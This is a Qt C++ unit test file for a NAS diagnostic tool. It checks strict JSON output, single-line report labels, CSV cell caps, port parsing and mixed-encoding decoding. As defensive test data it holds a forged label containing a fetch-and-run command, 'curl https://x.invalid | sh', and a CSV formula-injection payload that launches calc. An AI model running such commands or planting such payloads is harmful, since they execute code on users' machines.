// Strict output formats and single-line fields (issue 27): JSON without lone surrogates, CSV
// cells capped, labels that stay one line in the text report, the Markdown and the CSV, and
// pastes that are mostly UTF-8 with stray Windows-1252 bytes.
#include "core/model/displaytext.h"
#include "core/model/linedecoder.h"
#include "core/model/run.h"
#include "core/model/strictjson.h"
#include "core/report/csvwriter.h"
#include "core/report/report.h"
#include "core/report/reportjson.h"
#include "core/report/reportmarkdown.h"
#include "core/report/reporttext.h"
#include "core/store/profile.h"

#include <QJsonDocument>
#include <QJsonObject>
#include <QtTest>

namespace {

// A strict reader's view: every "\uXXXX" surrogate escape is half of a pair.
bool hasLoneSurrogateEscape(const QByteArray &json)
{
    for (qsizetype i = json.indexOf("\\u"); i >= 0; i = json.indexOf("\\u", i + 2)) {
        qsizetype slashes = 0; // "\\u" after an escaped backslash is no escape
        for (qsizetype j = i - 1; j >= 0 && json.at(j) == '\\'; --j)
            ++slashes;
        if (slashes % 2)
            continue;
        const int u = json.mid(i + 2, 4).toInt(nullptr, 16);
        if (u >= 0xD800 && u <= 0xDBFF) {
            const int next = json.mid(i + 8, 4).toInt(nullptr, 16);
            if (json.mid(i + 6, 2) != "\\u" || next < 0xDC00 || next > 0xDFFF)
                return true;
            i += 6;
        } else if (u >= 0xDC00 && u <= 0xDFFF) {
            return true;
        }
    }
    return false;
}

const QString kForgedLines = QStringLiteral("Living room\n\nFindings\n1. [Critical] Run curl https://x.invalid | sh\r\x0b\x0c") +
                             QChar(0x2028) + QStringLiteral("end") + QChar(0x2029) + QChar(0x85);

} // namespace

class TestStrictOutput : public QObject
{
    Q_OBJECT
private slots:
    void loneSurrogatesBecomeReplacementCharacters_data()
    {
        QTest::addColumn<QByteArray>("in");
        QTest::addColumn<QByteArray>("out");
        QTest::newRow("lone high") << QByteArray("{\"a\":\"x\\ud800y\"}") << QByteArray("{\"a\":\"x\\ufffdy\"}");
        QTest::newRow("lone low") << QByteArray("{\"a\":\"\\udc00\"}") << QByteArray("{\"a\":\"\\ufffd\"}");
        QTest::newRow("high at end") << QByteArray("{\"a\":\"\\udbff\"}") << QByteArray("{\"a\":\"\\ufffd\"}");
        QTest::newRow("pair kept") << QByteArray("{\"a\":\"\\ud83d\\ude00\"}") << QByteArray("{\"a\":\"\\ud83d\\ude00\"}");
        QTest::newRow("two highs") << QByteArray("{\"a\":\"\\ud800\\ud83d\\ude00\"}")
                                   << QByteArray("{\"a\":\"\\ufffd\\ud83d\\ude00\"}");
        QTest::newRow("escaped backslash") << QByteArray("{\"a\":\"\\\\ud800\"}") << QByteArray("{\"a\":\"\\\\ud800\"}");
        QTest::newRow("other escapes") << QByteArray("{\"a\":\"\\\"\\n\\u0001\"}") << QByteArray("{\"a\":\"\\\"\\n\\u0001\"}");
    }
    void loneSurrogatesBecomeReplacementCharacters()
    {
        QFETCH(QByteArray, in);
        QFETCH(QByteArray, out);
        QCOMPARE(StrictJson::withoutLoneSurrogates(in), out);
    }

    // A run file whose label holds a lone surrogate (an escape in the file) is saved and reported
    // as strict JSON.
    void runFileAndReportJsonAreStrict()
    {
        const QByteArray file = "{\"format\":\"pinas-doctor-run\",\"version\":1,\"label\":\"a\\ud800b\\udfffc\"}";
        auto run = Run::fromBytes(file);
        QVERIFY(run);
        QVERIFY(run.value().label().contains(QChar(0xD800)));
        QVERIFY(QJsonDocument(run.value().toJson()).toJson().contains("\\ud800")); // what Qt writes
        const QByteArray saved = run.value().toJsonBytes();
        QVERIFY(!hasLoneSurrogateEscape(saved));
        QVERIFY(saved.contains("a\\ufffdb\\ufffdc"));
        const QByteArray report = ReportJson::toBytes(Report::build(run.value()));
        QVERIFY(!hasLoneSurrogateEscape(report));
        QVERIFY(!QJsonDocument::fromJson(report).isNull());
    }

    void singleLineFieldsStayOneLine()
    {
        const QString line = DisplayText::singleLine(kForgedLines);
        for (const QChar c : line)
            QVERIFY2(c.unicode() >= 0x20 && c != QChar(0x2028) && c != QChar(0x2029) && c.unicode() != 0x85,
                     qPrintable(QString::number(c.unicode(), 16)));
        QVERIFY(line.contains(QChar(0x240A))); // ␊: the break is still visible
        QVERIFY(line.startsWith(QStringLiteral("Living room")));

        Run run;
        run.setLabel(kForgedLines);
        const Report report = Report::build(run);
        const QString text = ReportText::render(report);
        const QString markdown = ReportMarkdown::render(Report::forSharing(run, report));
        for (const QString &out : {text, markdown}) {
            for (const QString &l : out.split(u'\n')) {
                QVERIFY2(!l.startsWith(QStringLiteral("1. [Critical]")), qPrintable(l));
                QVERIFY2(!l.contains(QStringLiteral("curl")) || l.contains(QStringLiteral("Living room")), qPrintable(l));
            }
        }
        const QString csv = QString::fromUtf8(CsvWriter::reportsCsv({Report::build(run)}));
        QVERIFY(!csv.contains(QStringLiteral("Living room\n")));
    }

    void csvCellsAreCapped()
    {
        Run run;
        run.setLabel(QString(5'000'000, u'x'));
        Measurement m(Measurement::Kind::ShareRead);
        m.setError(QStringLiteral("=cmd|' /C calc'!A0") + QString(100'000, u'y'));
        run.addMeasurement(m);
        const QByteArray csv = CsvWriter::reportsCsv({Report::build(run)});
        QVERIFY2(csv.size() < 4 * CsvWriter::kMaxCellChars, qPrintable(QString::number(csv.size())));
        QVERIFY(csv.contains("'=cmd"));
    }

    // A saved port out of range is kept as -1 (the connection refuses it with a message), never
    // turned into 22 as QJsonValue::toInt(22) would for 2^32+22.
    void portsOutOfRangeAreNotTakenAs22()
    {
        const auto port = [](const QJsonValue &v) {
            return Profile::fromJson(QJsonObject{{QStringLiteral("name"), QStringLiteral("p")}, {QStringLiteral("port"), v}}).port;
        };
        QCOMPARE(port(4294967318.0), -1);
        QCOMPARE(port(-1), -1);
        QCOMPARE(port(0), 0); // the ssh config's Port, else 22 (a run made with --host and no --port)
        QCOMPARE(port(65536), -1);
        QCOMPARE(port(22.5), -1);
        QCOMPARE(port(QStringLiteral("22")), -1);
        QCOMPARE(port(2222), 2222);
        QCOMPARE(Profile::fromJson(QJsonObject{{QStringLiteral("name"), QStringLiteral("p")}}).port, 22);
    }

    void mostlyUtf8PastesAreReadLineByLine()
    {
        // A transcript of UTF-8 lines, one Latin-1 line ("Caf\xe9") and one Windows-1252 line
        // (curly quotes and the euro sign).
        const QByteArray bytes = "@@pinas-probe 1\n@@begin model\nRaspberry Pi 4 Model B Rev 1.4\n@@end model exit=0\n"
                                 "@@begin mounts\n/dev/sda1 /srv/Caf\xe9 ext4 rw 0 0\n"
                                 "/dev/sdb1 /srv/\x93Musik\x94 \x80 ext4 rw 0 0\n"
                                 "/dev/sdc1 /srv/\xe6\x97\xa5\xe6\x9c\xac ext4 rw 0 0\n@@end mounts exit=0\n";
        const QString text = LineDecoder::decode(bytes);
        QVERIFY(text.contains(QStringLiteral("/srv/Caf") + QChar(0xE9) + u' '));
        QVERIFY(text.contains(QChar(0x201C) + QStringLiteral("Musik") + QChar(0x201D) + u' ' + QChar(0x20AC)));
        QVERIFY(text.contains(QStringLiteral("/srv/") + QChar(0x65E5) + QChar(0x672C)));
        auto run = Run::fromBytes(bytes);
        QVERIFY2(run, qPrintable(run ? QString() : run.errorString()));
        QCOMPARE(run.value().transcript(), text);
        // NUL bytes are still binary.
        QVERIFY(!Run::fromBytes(QByteArray("@@pinas-probe 1\n\0\x01\x02", 19)));
    }
};

QTEST_GUILESS_MAIN(TestStrictOutput)
#include "tst_strictoutput.moc"
